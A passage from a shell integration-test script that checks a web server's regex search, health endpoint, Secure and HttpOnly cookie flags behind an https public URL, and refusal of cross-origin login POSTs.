  fi
done
req GET "$R/search/main?regex=1&q=$(urlenc 'content-0[0-9] of [[:alpha:]]+ (x|y){1,3}')"
check_status "an ordinary regex with a small {m,n} still searches" 200
req GET "$R/search/main?q=content-01"
check_status "search still works" 200
check_match "... and finds the file" "content-01" "$(py text "$BODY" div#results)"
req GET "$BASE/healthz"
check_status "server healthy after all that" 200
check_true "server process alive" alive "$SERVER_PID"

# ---------------------------------------------------------------------------------------
section "Secure cookies behind an https public URL"
stop_server || fail "server stopped cleanly" "rc=$SERVER_RC"
cat >"$T/https.toml" <<EOF
[server]
public_url = "https://hub.example.com"
EOF
start_server "$DATA" --config "$T/https.toml" || die "hangar serve --config https.toml"
req GET "$BASE/login" -c "$T/s.jar"
check_hdr_match "the CSRF cookie is Secure" Set-Cookie '; Secure(;|$)'
tok="$(py csrf "$BODY")"
req POST "$BASE/login" -b "$T/s.jar" --data-urlencode "_csrf=$tok" --data-urlencode "username=alice" --data-urlencode "password=alice-Passw0rd"
check_status "sign in behind the https public URL" 303
COOKIE="$(grep -i '^set-cookie: hangar_session=' "$HDRS" | tr -d '\r')"
check_match "the session cookie is Secure, HttpOnly, SameSite=Lax" '; HttpOnly; SameSite=Lax.*; Secure' "$COOKIE"
req POST "$BASE/login" -b "$T/s.jar" -H "Origin: http://127.0.0.1:$PORT" --data-urlencode "_csrf=$tok" \
  --data-urlencode "username=alice" --data-urlencode "password=alice-Passw0rd"
check_status "an Origin other than the public URL is refused" 403

finish
